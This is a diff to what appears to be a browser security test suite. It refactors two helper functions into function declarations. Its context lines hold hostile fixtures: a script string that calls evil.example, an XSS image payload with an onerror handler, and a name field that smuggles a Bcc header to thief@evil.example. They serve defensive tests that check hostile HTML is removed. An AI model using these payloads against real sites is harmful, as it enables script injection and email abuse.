@@ -18,7 +18,9 @@ const RUN = 'window.ran=1;fetch(`https://evil.example`)';
 const IMAGE = '<img src=x onerror=window.ran=1>';
 const NAME = `Ray"\r\nBcc: thief@evil.example\r\n\r\n${IMAGE}`.slice(0, 60);
 
-const inBoth = (text: string) => ({ 'en-US': text, 'de-DE': text });
+function inBoth(text: string) {
+  return { 'en-US': text, 'de-DE': text };
+}
 
 /** HTML that the fields of HTML take: all of it has to go but the words beside it. */
 const HOSTILE_HTML = [
@@ -166,8 +168,8 @@ test('SEC-R8 SEC-R9 WL-7 a file with script, styles or other addresses where non
 });
 
 /** Elements and attributes of the page that only the hostile file could have brought. */
-const foreignIn = (page: Page): Promise<readonly string[]> =>
-  page.evaluate(() =>
+function foreignIn(page: Page): Promise<readonly string[]> {
+  return page.evaluate(() =>
     [...document.querySelectorAll('*')].flatMap((element) => {
       const found = element
         .getAttributeNames()
@@ -190,6 +192,7 @@ const foreignIn = (page: Page): Promise<readonly string[]> =>
       return isForeign ? [...found, element.tagName] : found;
     }),
   );
+}
 
 const PAGES = [
   '/app/ray/login?SMQUERYDATA=x',
